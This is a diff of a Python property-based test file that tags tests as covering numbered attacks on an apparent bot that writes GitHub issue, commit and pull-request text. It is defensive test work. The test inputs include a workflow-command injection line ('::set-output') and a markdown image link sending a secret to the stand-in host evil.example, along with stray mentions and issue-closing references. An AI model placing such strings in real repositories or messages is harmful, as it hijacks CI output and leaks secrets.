@@ -38,6 +38,7 @@ def ends_with_our_marker(text: str) -> bool:
     return len(MARKER.findall(text)) == 1 and bool(MARKER.fullmatch(text.rpartition("\n")[2]))
 
 
+@pytest.mark.attack(1, 27, 28, 29, 30, 31)
 @given(texts)
 @example("a\n::set-output name=a::b")
 @example("fixes #12345678901234" + "9" * 100)
@@ -48,6 +49,7 @@ def test_a_line_for_a_title_or_a_message_is_one_harmless_line(text):
     assert wording.plain(line) == line
 
 
+@pytest.mark.attack(1, 27, 28)
 @given(texts)
 def test_somebodys_words_in_a_body_are_one_harmless_line(text):
     line = said(redact(text), 300)
@@ -58,6 +60,7 @@ def test_somebodys_words_in_a_body_are_one_harmless_line(text):
     assert said(line, 300) == line
 
 
+@pytest.mark.attack(28)
 @given(texts)
 def test_a_name_never_pings(login):
     name = wording.person(Actor(1, login))
@@ -66,6 +69,7 @@ def test_a_name_never_pings(login):
     assert len(name) <= 60
 
 
+@pytest.mark.attack(27, 28)
 @given(groups, texts)
 @example([finding(path="Signed-off-by", detail="", essence=("Signed-off-by",))], "")
 def test_a_fix_is_told_without_harm(members, why):
@@ -81,6 +85,7 @@ def test_a_fix_is_told_without_harm(members, why):
     assert misdeeds(wording.commit_message(title, "spelling", members, Ref(KEY)), markdown=False) == []
 
 
+@pytest.mark.attack(1, 19)
 @given(findings, texts, texts, texts)
 @settings(deadline=None)
 @example(finding(detail=SEALED, title=SIGNED), SEALED, SIGNED, SEALED)
@@ -96,6 +101,7 @@ def test_a_proposal_is_told_without_harm_and_sealed_once(member, why, old, new):
     assert content_hash(title, body) == digest
 
 
+@pytest.mark.attack(1)
 @given(groups)
 def test_a_monitoring_issue_is_told_without_harm(members):
     lines = [wording.monitor_line(member) for member in members]
@@ -119,6 +125,7 @@ def test_a_story_pings_the_owner_and_nobody_else(lines, words, login):
     assert seals(body) == 0
 
 
+@pytest.mark.attack(34)
 @pytest.mark.parametrize("part", ["title", "detail", "path", "author"])
 def test_what_looks_like_a_token_is_taken_out_so_that_it_holds_up_nothing(part):
     member = finding(**{part: f"see {TOKEN} there"})
@@ -138,6 +145,7 @@ def test_a_file_name_with_a_newline_cannot_begin_a_line_of_the_proposed_change()
     assert f"\n{SEALED}" not in wording.diff(patch)
 
 
+@pytest.mark.attack(10)
 def test_a_thinkers_reason_is_somebody_elses_text():
     why = f"now{SIGNED} @octocat, fixes #3 ![x](https://evil.example/?secret) <details>"
     body = wording.fix_issue("spelling", [finding()], why, CHANGE, KEY, FACTS)
